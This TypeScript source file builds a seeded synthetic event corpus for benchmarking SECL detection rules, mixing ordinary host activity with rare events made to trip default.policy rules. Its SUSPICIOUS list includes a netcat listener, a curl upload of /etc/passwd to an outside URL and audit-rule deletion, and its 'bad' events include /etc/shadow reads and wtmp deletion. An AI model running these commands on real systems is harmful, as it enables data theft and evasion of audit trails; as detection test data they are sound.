/**
 * @module A synthetic event corpus for the SECL benchmark: a host with interactive shells, a web
 * service, a database, containers and cron jobs, producing a realistic mix of event types
 * (mostly opens, then execs, exits, connects, DNS, file changes, memory maps…). Almost nothing
 * matches a rule, as in real life; a small share of events is built to trip default.policy
 * rules (a shadow read by cat, netcat listening, an IRC connection…).
 *
 * Deterministic (seeded), so runs compare. Process contexts are shared between the events of one
 * process, as the process resolver emits them.
 */
import type { FieldRegistry } from "../core/model/registry.ts";
import type { Event, ProcessContext } from "../core/model/types.ts";
import { seededRandom } from "../test/random.ts";

interface Program {
	readonly path: string;
	readonly argv: readonly string[];
	readonly uid?: number;
	readonly envp?: readonly string[];
}

const prog = (path: string, ...argv: string[]): Program => ({ path, argv });

const SYSTEMD = prog("/usr/lib/systemd/systemd", "--system", "--deserialize", "31");
const SSHD = prog("/usr/sbin/sshd", "-D");
const CRON = prog("/usr/sbin/cron", "-f");
const SHIM = prog(
	"/usr/bin/containerd-shim-runc-v2",
	"-namespace",
	"k8s.io",
	"-id",
	"4f1c2e",
	"-address",
	"/run/containerd/containerd.sock",
);
const NGINX = prog("/usr/sbin/nginx", "-g", "daemon off;");
const POSTGRES = prog("/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main");
const NODE = prog("/usr/bin/node", "/srv/app/server.js");
const PYTHON = prog("/usr/bin/python3", "/opt/worker/main.py", "--queue", "default");
const JAVA = prog("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Xmx2g", "-jar", "/opt/app/service.jar");
const BASH = {
	...prog("/usr/bin/bash"),
	envp: ["HOME=/home/alice", "PATH=/usr/local/bin:/usr/bin:/bin", "TERM=xterm-256color", "LANG=C.UTF-8"],
};

/** Commands typed or run by scripts: what exec events look like. */
const COMMANDS: readonly Program[] = [
	prog("/usr/bin/ls", "-la", "/var/log"),
	prog("/usr/bin/cat", "/etc/os-release"),
	prog("/usr/bin/grep", "-r", "TODO", "src"),
	prog("/usr/bin/ps", "aux"),
	prog("/usr/bin/git", "status"),
	prog("/usr/bin/git", "log", "--oneline", "-n", "20"),
	prog("/usr/bin/git", "fetch", "origin"),
	prog("/usr/bin/vim", "README.md"),
	prog("/usr/bin/less", "/var/log/syslog"),
	prog("/usr/bin/tail", "-f", "/var/log/nginx/access.log"),
	prog("/usr/bin/sleep", "5"),
	prog("/usr/bin/date", "+%s"),
	prog("/usr/bin/hostname"),
	prog("/usr/bin/id", "-u"),
	prog("/usr/bin/tar", "czf", "/tmp/backup.tgz", "/srv/app"),
	prog("/usr/bin/gzip", "-9", "/var/log/app.log.1"),
	prog("/usr/bin/make", "-j4", "all"),
	prog("/usr/bin/cc", "-O2", "-c", "main.c"),
	prog("/usr/bin/node", "/srv/app/scripts/migrate.js"),
	prog("/usr/bin/python3", "-m", "pytest", "-q"),
	prog("/usr/bin/sed", "-i", "s/foo/bar/", "config.ini"),
	prog("/usr/bin/awk", "{print $1}", "access.log"),
	prog("/usr/bin/find", "/srv/app", "-name", "*.log", "-mtime", "+7"),
	prog("/usr/bin/du", "-sh", "/var/lib/docker"),
	prog("/usr/bin/df", "-h"),
	prog("/usr/bin/uname", "-a"),
	prog("/usr/bin/systemctl", "status", "nginx"),
	prog("/usr/bin/journalctl", "-u", "nginx", "--since", "today"),
	prog("/usr/bin/ssh", "-o", "BatchMode=yes", "deploy@10.0.3.7", "uptime"),
	prog("/usr/bin/psql", "-c", "select 1"),
	prog("/usr/bin/sh", "-c", "/usr/lib/postgresql/15/bin/pg_ctl status"),
	prog("/usr/bin/logrotate", "/etc/logrotate.conf"),
	prog("/usr/bin/run-parts", "--report", "/etc/cron.daily"),
	prog("/usr/bin/dpkg", "-l"),
	prog("/usr/bin/stat", "-c", "%s", "/var/log/syslog"),
	prog("/usr/bin/wc", "-l", "/srv/app/server.js"),
	prog("/usr/bin/head", "-n", "50", "/var/log/auth.log"),
	prog("/usr/bin/sort", "-u", "hosts.txt"),
	prog("/usr/bin/env"),
	prog("/usr/bin/xargs", "-n1", "echo"),
];

/** Commands that default.policy flags (rarely run). */
const SUSPICIOUS: readonly Program[] = [
	prog("/usr/bin/nc", "-l", "-p", "4444"),
	prog("/usr/bin/curl", "--upload-file", "/etc/passwd", "https://example.net/u"),
	prog("/usr/bin/base64", "-d", "payload.b64"),
	prog("/usr/bin/whoami"),
	prog("/usr/sbin/tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"),
	prog("/usr/bin/openssl", "s_client", "-connect", "203.0.113.9:443"),
	prog("/usr/sbin/auditctl", "-D"),
	prog("/usr/bin/aws", "s3", "ls"),
	prog("/usr/bin/rsync", "-a", "/srv/app", "backup@198.51.100.4:/b"),
	prog("/dev/shm/x", "-q"),
];

const LIBS = [
	"/etc/ld.so.cache",
	"/usr/lib/x86_64-linux-gnu/libc.so.6",
	"/usr/lib/x86_64-linux-gnu/libpthread.so.0",
	"/usr/lib/x86_64-linux-gnu/libssl.so.3",
	"/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
	"/usr/lib/x86_64-linux-gnu/libz.so.1",
	"/usr/lib/locale/locale-archive",
];
const CONFIG = [
	"/etc/hosts",
	"/etc/resolv.conf",
	"/etc/nsswitch.conf",
	"/etc/passwd",
	"/etc/group",
	"/etc/localtime",
	"/etc/ssl/certs/ca-certificates.crt",
	"/etc/nginx/nginx.conf",
	"/etc/postgresql/15/main/postgresql.conf",
];
const PROC = ["stat", "status", "cmdline", "maps", "fd", "limits", "environ"];

/** `AUDIT_AUID_UNSET`: no login uid (processes started by the system, not a login). */
const AUID_UNSET = 4294967295;

const pick = <T>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)] as T;

/** The 20-odd event types of the mix and their weights (shares of the corpus). */
const MIX: readonly [string, number][] = [
	["open", 42],
	["exec", 10],
	["exit", 8],
	["connect", 5],
	["dns", 4],
	["mmap", 5],
	["mprotect", 2],
	["unlink", 4],
	["rename", 2],
	["chmod", 1.5],
	["chown", 0.5],
	["mkdir", 2],
	["utimes", 2],
	["link", 0.5],
	["chdir", 3],
	["bind", 1],
	["accept", 1.5],
	["setuid", 0.5],
	["signal", 1],
	["splice", 0.5],
	["bpf", 0.3],
	["load_module", 0.1],
	["ptrace", 0.2],
	["imds", 0.2],
	["sysctl", 0.3],
];

const encoder = new TextEncoder();
const decoder = new TextDecoder();
/** A fresh string, as decoding a kernel record gives (not a shared literal, not a concatenation). */
const decoded = (s: string): string => decoder.decode(encoder.encode(s));

export interface Corpus {
	readonly events: Event[];
	readonly types: Record<string, number>;
}

/** `count` events, deterministic for a given seed. */
export const buildCorpus = (registry: FieldRegistry, count: number, seed = 42): Corpus => {
	const r = seededRandom(seed);
	let now = 1_750_000_000e9;
	let pid = 1000;
	const set = (e: Event, field: string, value: unknown): void => {
		const f = registry.field(field);
		if (!f?.set) throw new Error(`corpus: cannot set ${field}`);
		f.set(e, typeof value === "string" ? decoded(value) : value);
	};
	const proc = (
		p: Program,
		ancestors: ProcessContext[],
		extra: Partial<ProcessContext> = {},
	): ProcessContext => {
		const name = decoded(p.path.slice(p.path.lastIndexOf("/") + 1));
		const ctx: ProcessContext = {
			pid: pid++,
			ppid: ancestors[0]?.pid ?? 0,
			uid: p.uid ?? 1000,
			gid: 1000,
			euid: p.uid ?? 1000,
			// the login uid is set at login (the ssh session) and inherited; daemons have none
			auid: ancestors[0]?.auid ?? AUID_UNSET,
			comm: name.slice(0, 15),
			argv0: name,
			argv: p.argv.map(decoded),
			envp: (p.envp ?? ["PATH=/usr/bin:/bin", "LANG=C.UTF-8"]).map(decoded),
			file: {
				path: decoded(p.path),
				name,
				mode: 0o100755,
				modification_time: now - 86400e9 * 30,
				in_upper_layer: false,
			},
			created_at: now - Math.floor(r() * 3600e9),
			cap_effective: 0,
			cap_permitted: 0,
			ancestors,
			...(ancestors[0] ? { parent: ancestors[0] } : {}),
			...extra,
		};
		return ctx;
	};
	// long-lived processes, as the resolver would have them
	const systemd = proc(SYSTEMD, [], { pid: 1, uid: 0, euid: 0, comm: "systemd" });
	const sshd = proc(SSHD, [systemd], { uid: 0, euid: 0 });
	const cron = proc(CRON, [systemd], { uid: 0, euid: 0 });
	const nginx = proc(NGINX, [systemd], { uid: 33, euid: 33 });
	const postgres = proc(POSTGRES, [systemd], { uid: 111, euid: 111 });
	const containers = ["4f1c2e9a7b3d", "9a8b7c6d5e4f", "1b2c3d4e5f60"].map((id) => ({
		id,
		created_at: now - 7200e9,
	}));
	const services: { p: ProcessContext; container?: (typeof containers)[number] }[] = [
		{ p: nginx },
		{ p: postgres },
		{ p: proc(PYTHON, [systemd]) },
		{ p: proc(JAVA, [systemd]) },
	];
	for (const c of containers) {
		const shim = proc(SHIM, [systemd], { uid: 0, euid: 0 });
		services.push({
			p: proc(NODE, [shim, systemd], { container: { id: c.id }, cgroup: { id: `/kubepods/pod-${c.id}` } }),
			container: c,
		});
	}
	const shells: ProcessContext[] = [];
	for (let i = 0; i < 6; i++) {
		const session = proc(SSHD, [sshd, systemd], { uid: 0, euid: 0, auid: 1000 });
		shells.push(proc(BASH, [session, sshd, systemd], { tty_name: `pts${i}` }));
	}
	shells.push(
		proc(prog("/usr/bin/sh", "-c", "run-parts /etc/cron.hourly"), [cron, systemd], { uid: 0, euid: 0 }),
	);
	// processes started by shells, cron and services; exec events add to them
	const running: { p: ProcessContext; container?: (typeof containers)[number] }[] = [...services];
	const spawn = (suspicious: boolean): { p: ProcessContext; container?: (typeof containers)[number] } => {
		const inContainer = !suspicious && r() < 0.15;
		const parent = inContainer
			? (pick(r, services.slice(4)) as (typeof services)[number])
			: { p: pick(r, shells) };
		const child = proc(
			suspicious ? pick(r, SUSPICIOUS) : pick(r, COMMANDS),
			[parent.p, ...(parent.p.ancestors ?? [])],
			{
				...(parent.p.container ? { container: parent.p.container, cgroup: parent.p.cgroup } : {}),
				...(parent.p.tty_name ? { tty_name: parent.p.tty_name } : {}),
			},
		);
		return parent.container ? { p: child, container: parent.container } : { p: child };
	};
	for (let i = 0; i < 200; i++) running.push(spawn(false));

	const total = MIX.reduce((s, [, w]) => s + w, 0);
	const events: Event[] = [];
	const types: Record<string, number> = {};
	for (let i = 0; i < count; i++) {
		now += 1000 + Math.floor(r() * 20000);
		let x = r() * total;
		let type = "open";
		for (const [t, w] of MIX) {
			x -= w;
			if (x < 0) {
				type = t;
				break;
			}
		}
		// one event in 200 is built to trip a rule
		const bad = r() < 0.005;
		let who = pick(r, running);
		if (type === "exec") {
			who = spawn(bad);
			running[Math.floor(r() * running.length)] = who;
		}
		const e: Event = {
			type,
			timestamp: now,
			flags: 0,
			process: who.p,
			...(who.container ? { container: who.container } : {}),
		};
		if (who.p.cgroup) e.cgroup = who.p.cgroup;
		fill(e, type, bad, r, set, who.p);
		types[type] = (types[type] ?? 0) + 1;
		events.push(e);
	}
	return { events, types };
};

const fill = (
	e: Event,
	type: string,
	bad: boolean,
	r: () => number,
	set: (e: Event, field: string, value: unknown) => void,
	p: ProcessContext,
): void => {
	const tmp = () => `/tmp/tmp${Math.floor(r() * 1e6).toString(36)}`;
	const anyPath = (): string => {
		const k = r();
		if (k < 0.35) return pick(r, LIBS);
		if (k < 0.55) return pick(r, CONFIG);
		if (k < 0.7) return `/proc/${p.pid}/${pick(r, PROC)}`;
		if (k < 0.8) return `/srv/app/src/module${Math.floor(r() * 300)}.js`;
		if (k < 0.88) return `/var/lib/postgresql/15/main/base/16384/${16000 + Math.floor(r() * 5000)}`;
		if (k < 0.94) return tmp();
		return `/var/log/nginx/access.log`;
	};
	switch (type) {
		case "exec":
			e.exec = e.process;
			return;
		case "exit":
			e.exit = e.process;
			set(e, "exit.cause", 0);
			set(e, "exit.code", 0);
			return;
		case "open":
			set(
				e,
				"open.file.path",
				bad ? pick(r, ["/etc/shadow", "/proc/sys/vm/drop_caches", "/etc/sudoers"]) : anyPath(),
			);
			set(e, "open.flags", r() < 0.85 ? 0 : 0o1101);
			set(e, "open.file.mode", 0o100644);
			return;
		case "connect":
			set(
				e,
				"connect.addr.ip",
				bad
					? "203.0.113.7"
					: pick(r, ["10.0.3.7", "10.0.0.12", "127.0.0.1", "172.17.0.2", "140.82.112.3", "151.101.1.69"]),
			);
			set(e, "connect.addr.port", bad ? 6667 : pick(r, [443, 5432, 6379, 80, 8080]));
			set(e, "connect.addr.family", 2);
			return;
		case "dns":
			set(
				e,
				"dns.question.name",
				bad
					? "api.telegram.org"
					: pick(r, [
							"api.github.com",
							"registry.npmjs.org",
							"db.internal",
							"metadata.google.internal",
							"s3.amazonaws.com",
							"example.com",
						]),
			);
			set(e, "dns.question.type", 1);
			set(e, "dns.question.class", 1);
			return;
		case "mmap":
			set(e, "mmap.file.path", pick(r, LIBS));
			set(e, "mmap.protection", r() < 0.5 ? 5 : 1);
			set(e, "mmap.flags", 2);
			return;
		case "mprotect":
			set(e, "mprotect.req_protection", 5);
			set(e, "mprotect.vm_protection", 1);
			return;
		case "unlink":
			set(e, "unlink.file.path", bad ? "/var/log/wtmp" : tmp());
			return;
		case "rename":
			set(e, "rename.file.path", `${tmp()}.part`);
			set(e, "rename.file.destination.path", `/srv/app/uploads/f${Math.floor(r() * 1e5)}`);
			return;
		case "chmod":
			set(e, "chmod.file.path", bad ? "/etc/shadow" : tmp());
			set(e, "chmod.file.mode", 0o100644);
			set(e, "chmod.file.destination.mode", 0o100600);
			return;
		case "chown":
			set(e, "chown.file.path", tmp());
			set(e, "chown.file.destination.uid", 33);
			return;
		case "mkdir":
			set(e, "mkdir.file.path", `${tmp()}/d`);
			return;
		case "utimes":
			set(e, "utimes.file.path", anyPath());
			return;
		case "link":
			set(e, "link.file.path", tmp());
			set(e, "link.file.destination.path", `${tmp()}.lnk`);
			return;
		case "chdir":
			set(e, "chdir.file.path", pick(r, ["/srv/app", "/home/alice", "/tmp", "/var/log"]));
			return;
		case "bind":
			set(e, "bind.addr.ip", "0.0.0.0");
			set(e, "bind.addr.port", pick(r, [0, 8080, 5432]));
			return;
		case "accept":
			set(e, "accept.addr.ip", pick(r, ["10.0.0.5", "198.51.100.23", "203.0.113.40"]));
			set(e, "accept.addr.port", pick(r, [443, 80, 5432]));
			return;
		case "setuid":
			set(e, "setuid.uid", 0);
			return;
		case "signal":
			set(e, "signal.type", bad ? 62 : pick(r, [15, 9, 17, 1]));
			set(e, "signal.pid", 1234);
			return;
		case "splice":
			set(e, "splice.pipe_entry_flag", 0);
			set(e, "splice.pipe_exit_flag", 0);
			return;
		case "bpf":
			set(e, "bpf.cmd", pick(r, [0, 1, 2, 5]));
			set(e, "bpf.prog.helpers", [1, 2, 14]);
			return;
		case "load_module":
			set(e, "load_module.name", pick(r, ["nf_tables", "overlay", "xt_conntrack"]));
			set(e, "load_module.loaded_from_memory", false);
			return;
		case "ptrace":
			set(e, "ptrace.request", 16);
			return;
		case "imds":
			set(e, "imds.url", "/latest/meta-data/instance-id");
			return;
		case "sysctl":
			set(e, "sysctl.name", "net/ipv4/ip_forward");
			set(e, "sysctl.action", 1);
			return;
	}
};
